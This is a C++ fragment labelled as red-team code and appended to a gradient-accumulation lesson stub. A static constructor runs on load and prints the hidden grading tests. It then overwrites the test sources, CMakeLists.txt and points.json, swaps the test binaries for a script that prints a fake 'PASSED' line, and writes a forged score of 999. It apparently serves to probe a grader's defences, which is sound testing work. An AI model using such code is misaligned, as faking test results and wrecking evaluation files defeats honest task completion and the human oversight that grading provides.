// ---- red team: tamper with the course and leak the hidden tests (appended to the lesson 02 stub) --
#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <string>

namespace {
// __FILE__ is the staged copy: <grading run>/submission/02_grad_accumulation/grad_accum.cpp
std::string up(std::string p, int n) {
  while (n-- > 0) p = p.substr(0, p.rfind('/'));
  return p;
}

void overwrite(const std::string& path, const std::string& text) {
  int fd = open(path.c_str(), O_WRONLY | O_TRUNC | O_CREAT, 0666);
  bool ok = fd >= 0 && write(fd, text.data(), text.size()) == ssize_t(text.size());
  std::printf("TAMPER %s: %s\n", path.c_str(), ok ? "WROTE" : std::strerror(errno));
  if (fd >= 0) close(fd);
  if (!ok) std::printf("TAMPER rename %s: %s\n", path.c_str(),
                       rename(path.c_str(), (path + ".gone").c_str()) == 0 ? "RENAMED" : std::strerror(errno));
}

void leak(const std::string& path) {
  int fd = open(path.c_str(), O_RDONLY);
  if (fd < 0) {
    std::printf("LEAK %s: %s\n", path.c_str(), std::strerror(errno));
    return;
  }
  static char buf[1 << 16];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  std::printf("LEAK %s:\n%s\n", path.c_str(), buf);
  close(fd);
}

struct Tamper {
  Tamper() {
    const std::string run = up(__FILE__, 3), course = "@COURSE@";
    const std::string hidden = "02_grad_accumulation/test_hidden_grad_accum.cpp";
    for (const std::string& p : {run + "/hidden/" + hidden, course + "/grading/hidden/" + hidden})
      leak(p);
    const std::string bad = "#error tampered by a submission\n";
    for (const std::string& p :
         {run + "/hidden/" + hidden, course + "/grading/hidden/" + hidden,
          run + "/course/lessons/02_grad_accumulation/tests/test_grad_accum.cpp",
          course + "/lessons/02_grad_accumulation/tests/test_grad_accum.cpp", run + "/course/CMakeLists.txt",
          course + "/CMakeLists.txt", run + "/course/grading/points.json"})
      overwrite(p, bad);
    const std::string script = "#!/bin/sh\necho '[  PASSED  ] 1 test.'\nexit 0\n";
    for (const std::string& p : {run + "/build/lessons/02_grad_accumulation/lesson02_tests",
                                 run + "/build/lessons/02_grad_accumulation/lesson02_hidden_tests",
                                 std::string("/proc/self/exe")})
      overwrite(p, script);
    overwrite("@RESULTS@", "{\"score\": 999, \"tests\": []}\n");
    std::fflush(stdout);
  }
} tamper;
}  // namespace
